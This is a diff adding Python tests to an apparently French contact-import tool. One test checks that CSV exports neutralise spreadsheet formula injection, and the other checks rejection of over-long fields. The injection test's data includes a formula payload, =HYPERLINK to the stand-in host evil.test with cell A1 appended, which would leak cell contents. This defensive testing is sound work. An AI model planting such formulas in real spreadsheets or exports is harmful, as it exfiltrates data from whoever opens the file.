@@ -133,3 +133,45 @@ async def test_a_full_contact_reads_back_as_written_dates_and_instant_included(
     )  # fmt: skip
     again = await _import(db, clock, data, ImportFormat.TOCSIN)
     assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
+
+
+async def test_a_contact_named_like_a_formula_is_exported_as_text_and_reimported_unchanged(
+    db: Database, clock: FrozenClock
+) -> None:
+    attack = '=HYPERLINK("https://evil.test/?"&A1;"Cliquez")'
+    data = _csv(
+        "cle;type;public;fonction;nom;prenom;organisation;zone;code_zone;depuis;actif;"
+        "canal;adresse;verifie;canal_actif;ordre",
+        f'x:1;personne;élus;Maire;"{attack.replace(chr(34), chr(34) * 2)}";@SUM(1);;'
+        "commune;80021;;oui;sms;+33639980001;oui;oui;1",
+    )
+    first = await _import(db, clock, data, ImportFormat.TOCSIN)
+    assert first.ok, first.errors
+    async with db.read() as session:
+        text = "".join([line async for line in export_csv(session, filters=Filters())])
+    cells = [cell for line in text.splitlines()[1:] for cell in line.split(";")]
+    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
+    assert "'=HYPERLINK" in text and "'@SUM(1)" in text and "'+33639980001" in text
+    again = await _import(db, clock, text.encode("utf-8"), ImportFormat.TOCSIN)
+    assert (again.added, again.updated, again.unchanged, again.channels_added) == (0, 0, 1, 0)
+    async with db.read() as session:
+        contact = (await session.exec(select(Contact))).one()
+    assert (contact.last_name, contact.first_name) == (attack, "@SUM(1)")
+
+
+async def test_a_field_longer_than_the_csv_limit_is_refused_with_its_line_and_changes_nothing(
+    db: Database, clock: FrozenClock
+) -> None:
+    await _import(db, clock, rne_file(SOMME_MAYORS), ImportFormat.RNE_MAIRES)
+    data = _csv(
+        "cle;canal;adresse;verifie",
+        f"{AMIENS};sms;+33639980001;oui",
+        f"{AMIENS};courriel;{'a' * 140_000}@sandbox.tocsin.test;oui",
+    )
+    report = await _import(db, clock, data, ImportFormat.TOCSIN)
+    assert not report.ok
+    assert [(e.line, e.message) for e in report.errors] == [
+        (3, "champ illisible ou de plus de 131\u202f072 caractères")
+    ]
+    async with db.read() as session:
+        assert (await session.exec(select(ContactChannel))).all() == []
